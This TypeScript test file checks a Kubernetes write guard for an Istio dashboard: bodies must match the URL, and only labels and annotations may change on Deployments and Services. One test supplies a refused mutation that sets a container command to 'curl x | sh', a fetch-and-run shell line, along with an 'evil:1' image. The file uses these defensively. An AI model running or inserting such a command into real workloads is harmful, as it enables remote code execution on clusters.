/**
 * The write guard in front of every write: the body must match the URL, and of core
 * kinds Meshboard changes labels and annotations only (Namespaces, Deployments and
 * their pod templates) — never images, commands or anything else that runs code.
 */
import { describe, expect, it } from 'vitest';
import type { K8sObject } from '../istio/types';
import { KubeApiError } from './errors';
import { checkBody, checkCoreChange, type ResolvedType } from './resources';

const vsType: ResolvedType = {
  group: 'networking.istio.io',
  version: 'v1',
  kind: 'VirtualService',
  plural: 'virtualservices',
  namespaced: true,
  key: 'networking.istio.io/virtualservices',
  served: ['v1'],
  preferred: 'v1',
  writable: true,
};
const deployType: ResolvedType = {
  group: 'apps',
  version: 'v1',
  kind: 'Deployment',
  plural: 'deployments',
  namespaced: true,
  key: 'apps/deployments',
  served: ['v1'],
  preferred: 'v1',
  writable: true,
};
const secretType: ResolvedType = {
  group: '',
  version: 'v1',
  kind: 'Secret',
  plural: 'secrets',
  namespaced: true,
  key: 'core/secrets',
  served: ['v1'],
  preferred: 'v1',
  writable: false,
};

const vs: K8sObject = {
  apiVersion: 'networking.istio.io/v1',
  kind: 'VirtualService',
  metadata: { name: 'reviews', namespace: 'shop' },
  spec: { hosts: ['reviews'] },
};
const deploy: K8sObject = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'web', namespace: 'shop', labels: { app: 'web' }, resourceVersion: '10' },
  spec: { template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'web', image: 'web:1' }] } } },
  status: { replicas: 1 },
};

function refusal(f: () => void): KubeApiError {
  try {
    f();
  } catch (e) {
    if (e instanceof KubeApiError) return e;
    throw e;
  }
  throw new Error('expected a refusal');
}

describe('checkBody', () => {
  it('accepts a body that matches the URL', () => {
    expect(() => checkBody(vsType, 'shop', 'reviews', vs)).not.toThrow();
  });

  it('refuses a body whose apiVersion, kind, name or namespace differ from the URL, naming each field', () => {
    const e = refusal(() => checkBody(vsType, 'default', 'ratings', { ...vs, apiVersion: 'networking.istio.io/v1beta1', kind: 'Gateway' }));
    expect(e.status).toBe(400);
    expect(e.causes?.map((c) => c.field)).toEqual(['apiVersion', 'kind', 'metadata.name', 'metadata.namespace']);
    expect(e.message).toContain('metadata.name must be ratings');
  });

  it('refuses kinds Meshboard does not write, even with a matching body', () => {
    const secret: K8sObject = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'shop' } };
    expect(refusal(() => checkBody(secretType, 'shop', 's', secret)).status).toBe(405);
  });
});

describe('checkCoreChange', () => {
  it('leaves Istio kinds alone', () => {
    expect(() => checkCoreChange(vsType, undefined, vs)).not.toThrow();
  });

  it('never creates core or apps objects', () => {
    expect(refusal(() => checkCoreChange(deployType, undefined, deploy)).status).toBe(405);
  });

  it('allows label and annotation changes on the Deployment and its pod template', () => {
    const injected = structuredClone(deploy);
    injected.metadata.labels = { app: 'web', 'istio.io/rev': 'canary' };
    (injected.spec as any).template.metadata.annotations = { 'sidecar.istio.io/inject': 'true' };
    delete injected.status;
    delete injected.metadata.resourceVersion;
    expect(() => checkCoreChange(deployType, deploy, injected)).not.toThrow();
  });

  it('refuses any other change: an image, a command, replicas', () => {
    for (const mutate of [
      (d: any) => (d.spec.template.spec.containers[0].image = 'evil:1'),
      (d: any) => (d.spec.template.spec.containers[0].command = ['sh', '-c', 'curl x | sh']),
      (d: any) => (d.spec.replicas = 5),
    ]) {
      const changed = structuredClone(deploy);
      mutate(changed);
      const e = refusal(() => checkCoreChange(deployType, deploy, changed));
      expect(e.status).toBe(403);
      expect(e.message).toContain('only changes labels and annotations');
    }
  });
});

describe('checkCoreChange on Services (the ambient form sets istio.io/use-waypoint)', () => {
  const svcType: ResolvedType = {
    group: '',
    version: 'v1',
    kind: 'Service',
    plural: 'services',
    namespaced: true,
    key: 'core/services',
    served: ['v1'],
    preferred: 'v1',
    writable: true,
  };
  const svc: K8sObject = {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name: 'reviews', namespace: 'bookinfo' },
    spec: { ports: [{ port: 9080 }], selector: { app: 'reviews' } },
  };
  it('a label is allowed', () => {
    const next = structuredClone(svc);
    next.metadata.labels = { 'istio.io/use-waypoint': 'waypoint' };
    expect(() => checkCoreChange(svcType, svc, next)).not.toThrow();
  });
  it('a selector or port change is refused', () => {
    const next = structuredClone(svc);
    (next.spec as any).selector = { app: 'other' };
    expect(refusal(() => checkCoreChange(svcType, svc, next)).status).toBe(403);
  });
});
